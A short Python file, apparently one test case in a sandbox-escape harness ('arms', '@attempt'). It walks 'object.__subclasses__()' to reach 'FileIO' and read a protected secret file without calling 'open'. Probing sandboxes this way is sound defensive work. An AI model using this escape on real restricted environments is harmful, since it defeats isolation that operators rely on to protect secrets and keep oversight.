from arms import P, attempt


@attempt
def deed():
    found = next(c for c in object.__subclasses__() if c.__name__ == "_IOBase").__subclasses__()
    raw = next(c for c in found if c.__name__ == "_RawIOBase").__subclasses__()
    print(next(c for c in raw if c.__name__ == "FileIO")(P["secret"]).read().decode())
